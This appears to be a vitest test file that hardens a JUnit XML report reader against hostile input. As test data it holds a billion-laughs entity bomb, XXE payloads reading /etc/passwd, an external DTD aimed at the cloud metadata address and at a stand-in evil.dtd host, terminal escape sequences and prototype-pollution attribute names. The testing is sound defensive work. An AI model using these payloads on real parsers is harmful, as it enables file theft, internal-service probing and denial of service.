// Reports a hostile server could store: entity bombs and DTDs, deep nesting, a report over the cap,
// more cases than a target may hold, huge failure texts, control characters, broken XML. None may hang
// the reader or grow its memory: each is proved by counting what reached the parser, never by time.
import { SaxesParser } from 'saxes';
import { afterEach, beforeEach, describe, expect, it, type MockInstance, vi } from 'vitest';
import { CaseBudget, createReportReader } from '../../src/test-reports/index.ts';
import { MAX_FAILURE_TEXTS } from '../../src/test-reports/junit.ts';
import { readReport } from './read.ts';

const MiB = 1024 * 1024;
let writes: MockInstance;
/** The text the parser was given, in characters. */
let written = 0;

beforeEach(() => {
  written = 0;
  const write = SaxesParser.prototype.write;
  writes = vi.spyOn(SaxesParser.prototype, 'write').mockImplementation(function (this: SaxesParser, chunk) {
    written += typeof chunk === 'string' ? chunk.length : 0;
    return write.call(this, chunk);
  });
});
afterEach(() => writes.mockRestore());

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuite name="lolz"><testcase name="&lol9;"><failure message="&lol9;">&lol9;</failure></testcase></testsuite>`;

function* repeated(head: string, body: string, times: number, tail = ''): Generator<Uint8Array> {
  yield Buffer.from(head);
  const chunk = Buffer.from(body);
  for (let i = 0; i < times; i++) yield chunk;
  if (tail !== '') yield Buffer.from(tail);
}

function readChunks(chunks: Iterable<Uint8Array>, cases = new CaseBudget(), path = 'r.xml') {
  const reader = createReportReader(path, { cases });
  for (const chunk of chunks) reader.data(chunk);
  reader.end();
  return reader.result();
}

describe('entities and DTDs', () => {
  it('skips a billion laughs before the parser reads its DTD, at any chunk size', () => {
    for (const chunkSize of [1, 9, 4096]) {
      written = 0;
      const report = readReport(BILLION_LAUGHS, { path: 'reports/lolz.xml', chunkSize });
      expect(report.cases).toEqual([]);
      expect(report.warning).toBe(
        'The test report reports/lolz.xml was skipped: it declares a DTD, and reports are read without one.',
      );
      // The parser was given the XML declaration, and never a whole `<!DOCTYPE`.
      expect(written).toBeLessThan(BILLION_LAUGHS.indexOf('<!DOCTYPE') + '<!DOCTYPE'.length);
    }
  });

  it('ignores everything after the DTD, however much more comes', () => {
    const report = readChunks(repeated(BILLION_LAUGHS, '&lol9;'.repeat(1000), 10_000));
    expect(report.warning).toMatch(/declares a DTD/);
    expect(written).toBeLessThan(BILLION_LAUGHS.indexOf('<!DOCTYPE') + '<!DOCTYPE'.length);
  });

  it('skips an external entity or DTD without fetching anything', () => {
    for (const doctype of [
      '<!DOCTYPE testsuite SYSTEM "http://169.254.169.254/latest/meta-data/">',
      '<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE testsuite [<!ENTITY % p SYSTEM "http://example.com/evil.dtd"> %p;]>',
    ]) {
      const report = readReport(
        `<?xml version="1.0"?>${doctype}<testsuite><testcase name="&xxe;"/></testsuite>`,
      );
      expect(report.warning).toMatch(/skipped: it declares a DTD/);
      expect(report.cases).toEqual([]);
    }
  });

  it('leaves an entity it does not know as written, and reads the report', () => {
    const report = readReport(
      '<testsuite name="s"><testcase name="a&nbsp;b &lol9;"><failure message="&amp;&lt;&#65;&#x42;&unknown;"/></testcase></testsuite>',
    );
    expect(report.warning).toBeUndefined();
    expect(report.cases[0]).toMatchObject({
      name: 'a&nbsp;b &lol9;',
      message: '&<AB&unknown;',
      status: 'failed',
    });
  });

  it('a DTD after the root is not well-formed', () => {
    const report = readReport('<testsuite><!DOCTYPE x [<!ENTITY a "b">]><testcase name="a"/></testsuite>');
    expect(report.cases).toEqual([]);
    expect(report.warning).toMatch(/skipped: it is not well-formed XML/);
  });
});

describe('size and depth', () => {
  it('stops at the nesting cap while streaming a million levels', () => {
    const levels = 1_000_000;
    const report = readChunks(
      repeated('<testsuite><testcase name="deep"><failure>', '<a>'.repeat(1000), levels / 1000),
    );
    expect(report.warning).toBe('The test report r.xml was skipped: it nests elements more than 64 deep.');
    // The first chunk of levels passed the cap: nothing after it reached the parser.
    expect(writes).toHaveBeenCalledTimes(2);
  });

  it('reads a report exactly as deep as the cap', () => {
    const depth = 64;
    const open = '<testsuite><testcase name="x">' + '<a>'.repeat(depth - 2);
    const close = '</a>'.repeat(depth - 2) + '</testcase></testsuite>';
    expect(readReport(open + close).warning).toBeUndefined();
    expect(readReport(open + '<b/>' + close).warning).toMatch(/more than 64 deep/);
  });

  it('skips a report over 50 MiB as it streams, and gives its cases back to the target', () => {
    const cases = new CaseBudget();
    const head = '<testsuite name="s"><testcase name="a"/><testcase name="b"><system-out>';
    const line = `${'x'.repeat(1023)}\n`;
    const report = readChunks(
      repeated(head, line.repeat(1024), 60, '</system-out></testcase></testsuite>'),
      cases,
    );
    expect(report.warning).toBe('The test report r.xml was skipped: it is over 50 MiB.');
    expect(report.cases).toEqual([]);
    expect(cases.taken).toBe(0);
    // The head and 49 chunks of 1 MiB fit; the 50th went over and nothing after it was parsed.
    expect(writes).toHaveBeenCalledTimes(50);
    expect(written).toBeLessThanOrEqual(50 * MiB);
  });

  it('reads a report of just under 50 MiB whole', () => {
    const head = '<testsuite name="s"><testcase name="a"><failure message="m">';
    const tail = '</failure></testcase></testsuite>';
    const body = 'y'.repeat(MiB);
    const report = readChunks(repeated(head, body, 49, tail));
    expect(report.warning).toBeUndefined();
    // The failure text is kept at 4 KiB, however long it was.
    expect(report.cases[0]!.text).toBe('y'.repeat(4096));
  });

  it('keeps the texts of the first 100 failures, and of every later one its first line only', () => {
    const trace = (i: number) => `AssertionError: case ${i}\n${'  at frame\n'.repeat(200)}`;
    const failures = Array.from({ length: 1000 }, (_, i) =>
      i % 2 === 0
        ? `<testcase name="t${i}"><failure message="expected ${i}">${trace(i)}</failure></testcase>`
        : `<testcase name="t${i}"><error>${trace(i)}</error></testcase>`,
    );
    const report = readReport(`<testsuite name="s">${failures.join('')}</testsuite>`, { chunkSize: 4096 });
    expect(report.cases).toHaveLength(1000);
    expect(report.cases.filter((test) => test.text !== undefined)).toHaveLength(MAX_FAILURE_TEXTS);
    expect(report.cases.slice(0, MAX_FAILURE_TEXTS).every((test) => test.text?.endsWith('at frame'))).toBe(
      true,
    );
    expect(report.cases.map((test) => test.message)).toEqual(
      report.cases.map((_, i) => (i % 2 === 0 ? `expected ${i}` : `AssertionError: case ${i}`)),
    );
    expect(
      report.cases.every((test) => test.status === (test.name.match(/[13579]$/) ? 'errored' : 'failed')),
    ).toBe(true);
  });
});

describe('the case cap', () => {
  it('counts cases over all reports of a target, keeps those before the cap and says the rest were not read', () => {
    const cases = new CaseBudget(3);
    const report = (names: string[]) =>
      `<testsuite name="s">${names.map((name) => `<testcase name="${name}"/>`).join('')}</testsuite>`;
    const first = readReport(report(['a', 'b']), { limits: { cases } });
    const second = readReport(report(['c', 'd', 'e']), { path: 'second.xml', limits: { cases } });
    expect(first.cases.map((test) => test.name)).toEqual(['a', 'b']);
    expect(second.cases.map((test) => test.name)).toEqual(['c']);
    expect(second.warning).toBe(
      "The test report second.xml was cut short: the target's reports hold more than 3 test cases; the rest were not read.",
    );
    const third = readReport(report(['f']), { path: 'third.xml', limits: { cases } });
    expect(third.cases).toEqual([]);
    expect(third.warning).toMatch(/^The test report third.xml was cut short/);
  });

  it('stops parsing at 100,000 cases of one target', () => {
    const cases = new CaseBudget();
    const report = readChunks(
      repeated(
        '<testsuites><testsuite name="s">',
        '<testcase name="t"/>'.repeat(1000),
        1000,
        '</testsuite></testsuites>',
      ),
      cases,
    );
    expect(report.cases).toHaveLength(100_000);
    expect(cases.taken).toBe(100_000);
    expect(report.warning).toMatch(/more than 100,000 test cases/);
    // The head and 100 chunks of 1,000 cases were parsed, then the chunk holding case 100,001, and not
    // one chunk more.
    expect(writes).toHaveBeenCalledTimes(102);
  });
});

describe('texts', () => {
  it('cuts the failure text at 4 KiB of UTF-8 between characters, and the message at its first line', () => {
    const text = '東京'.repeat(3000);
    const message = `${'m'.repeat(5000)}\nsecond line`;
    const report = readReport(
      `<testsuite name="s"><testcase name="t"><error message="${message}">${text}</error></testcase></testsuite>`,
    );
    const test = report.cases[0]!;
    expect(Buffer.byteLength(test.text!)).toBeLessThanOrEqual(4096);
    expect(Buffer.byteLength(test.text!)).toBeGreaterThan(4090);
    expect(text.startsWith(test.text!)).toBe(true);
    expect(test.message).toBe('m'.repeat(1000));
  });

  it('keeps names with control characters, escape sequences and bidi controls for the places that show them to make inert', () => {
    const report = readReport(
      '<testsuite name="s\x1b[31m"><testcase name="::error::x\u202e"><failure message="&#27;]0;title&#7;">\x07\x1b[2J</failure></testcase></testsuite>',
    );
    expect(report.warning).toBeUndefined();
    expect(report.cases[0]).toMatchObject({
      suite: 's\x1b[31m',
      name: '::error::x\u202e',
      message: '&#27;]0;title&#7;',
      text: '\x07\x1b[2J',
    });
  });

  it('reads attributes named like object properties as attributes only', () => {
    const report = readReport(
      '<testsuite name="s" __proto__="x" constructor="y"><testcase toString="z" name="a" hasOwnProperty="w"/></testsuite>',
    );
    expect(report.cases).toEqual([{ suite: 's', name: 'a', status: 'passed', flaky: false }]);
  });
});

describe('broken reports', () => {
  it.each([
    [
      'cut short',
      '<testsuite name="s"><testcase name="a"/><testcase name="b">',
      /not well-formed XML \(.*unclosed tag/,
    ],
    ['not JUnit', '<html><body>tests</body></html>', /it is not a JUnit report: its root is <html>/],
    ['empty', '', /it holds no XML element/],
    ['only a declaration', '<?xml version="1.0"?>', /it holds no XML element/],
    ['two roots', '<testsuite/><testsuite/>', /not well-formed XML/],
    ['binary', '\x00\x01\x02PK\x03\x04', /not well-formed XML/],
    ['a mismatched end tag', '<testsuite><testcase name="a"></testsuite></testcase>', /not well-formed XML/],
  ])('skips a report %s with a warning naming it', (_, content, reason) => {
    const report = readReport(content, { path: 'reports/TEST-x.xml' });
    expect(report.cases).toEqual([]);
    expect(report.warning).toMatch(/^The test report reports\/TEST-x\.xml was skipped: /);
    expect(report.warning).toMatch(reason);
  });

  it("turns the parser's own failure into a warning, never a throw into the archive's extraction", () => {
    writes.mockImplementationOnce(() => {
      throw new Error('impossible state');
    });
    const report = readReport('<testsuite><testcase name="a"/></testsuite>', { chunkSize: 1 << 20 });
    expect(report).toEqual({
      file: 'reports/junit.xml',
      suites: 0,
      cases: [],
      warning: 'The test report reports/junit.xml was skipped: it could not be read (impossible state).',
    });
  });

  it('gives back the cases of a report skipped after some were counted', () => {
    const cases = new CaseBudget();
    readReport('<testsuite><testcase name="a"/><testcase name="b"/><oops', { limits: { cases } });
    expect(cases.taken).toBe(0);
  });
});
